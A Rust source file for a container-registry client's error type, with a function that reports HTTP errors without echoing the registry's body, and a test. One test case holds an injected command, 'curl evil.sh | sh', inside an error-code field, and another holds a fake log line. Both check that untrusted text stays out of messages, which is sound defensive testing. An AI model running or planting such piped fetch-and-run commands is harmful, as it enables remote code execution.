//! The error of the registry client: what a registry, a reference, a digest or a manifest got
//! wrong, with a message that names it and what to do about it.
//!
//! An error answer's body is the registry's text, not ours: it is kept in the error (truncated)
//! for whoever debugs, but never shown in the message, which ends up in service events. The
//! message carries a status line of our own words instead ([`status_line`]): the code, its
//! standard reason, and the registry's error code when its body is the distribution spec's
//! `{"errors":[{"code":"MANIFEST_UNKNOWN",...}]}` and the code is a plain upper-case word.
use std::path::PathBuf;

/// Everything that can go wrong talking to a registry or reading what it sent.
#[derive(Debug, thiserror::Error)]
pub enum RegistryError {
    #[error("invalid image reference {reference:?}: {reason}")]
    InvalidReference { reference: String, reason: String },

    #[error("invalid digest {0:?}: expected sha256:<64 lowercase hex digits>")]
    InvalidDigest(String),

    #[error("digest mismatch for {what}: expected {expected}, got {actual}; nothing was stored")]
    DigestMismatch { what: String, expected: String, actual: String },

    #[error("size mismatch for {what}: the manifest says {expected} bytes, the registry sent {actual}; nothing was stored")]
    SizeMismatch { what: String, expected: u64, actual: u64 },

    #[error("registry {registry} refused access to {scope}: {reason}")]
    Unauthorized { registry: String, scope: String, reason: String },

    #[error("registry {registry}: {method} {url} answered {}", status_line(*status, body))]
    Status {
        registry: String,
        method: String,
        url: String,
        status: u16,
        /// The start of the answer's body: for debugging only, never in the message.
        body: String,
    },

    #[error("request to {url} failed after {attempts} attempt(s): {reason}")]
    Transport { url: String, attempts: u32, reason: String },

    #[error("{what} is larger than the {limit} limit; refused")]
    TooLarge { what: String, limit: String },

    #[error("manifest {what}: {reason}")]
    InvalidManifest { what: String, reason: String },

    #[error("image config {what}: {reason}")]
    InvalidConfig { what: String, reason: String },

    #[error("docker credentials {path}: {reason}")]
    Credentials { path: PathBuf, reason: String },
}

/// `HTTP 404 Not Found (MANIFEST_UNKNOWN)`: the status, its standard reason, and the first
/// error code of a distribution-spec error body if it is a plain upper-case word. Nothing else
/// of the body.
pub fn status_line(status: u16, body: &str) -> String {
    let reason = reqwest::StatusCode::from_u16(status).ok().and_then(|s| s.canonical_reason()).unwrap_or("");
    let mut line = format!("HTTP {status} {reason}").trim_end().to_string();
    if let Some(code) = error_code(body) {
        line.push_str(&format!(" ({code})"));
    }
    line
}

/// The first `errors[].code` of a distribution-spec error body, if it is 1-64 of `A-Z`, `0-9`
/// and `_`.
fn error_code(body: &str) -> Option<String> {
    #[derive(serde::Deserialize)]
    struct Errors {
        errors: Vec<Code>,
    }
    #[derive(serde::Deserialize)]
    struct Code {
        code: String,
    }
    let code = serde_json::from_str::<Errors>(body).ok()?.errors.into_iter().next()?.code;
    let plain = !code.is_empty() && code.len() <= 64 && code.chars().all(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || c == '_');
    plain.then_some(code)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_error_answer_shows_a_status_line_and_never_the_body() {
        let status = |status: u16, body: &str| {
            RegistryError::Status {
                registry: "r:5000".into(),
                method: "GET".into(),
                url: "http://r:5000/v2/a/manifests/1".into(),
                status,
                body: body.into(),
            }
            .to_string()
        };
        let cases = [
            (
                404,
                r#"{"errors":[{"code":"MANIFEST_UNKNOWN","message":"manifest unknown","detail":{"Tag":"1"}}]}"#,
                "HTTP 404 Not Found (MANIFEST_UNKNOWN)",
            ),
            (500, "<html>\nEVENT: task healthy\n</html>", "HTTP 500 Internal Server Error"),
            (403, r#"{"errors":[{"code":"DENIED; curl evil.sh | sh","message":"x"}]}"#, "HTTP 403 Forbidden"),
            (429, r#"{"errors":[]}"#, "HTTP 429 Too Many Requests"),
            (599, "", "HTTP 599"),
        ];
        for (code, body, want) in cases {
            assert_eq!(status(code, body), format!("registry r:5000: GET http://r:5000/v2/a/manifests/1 answered {want}"), "{body}");
        }
    }
}
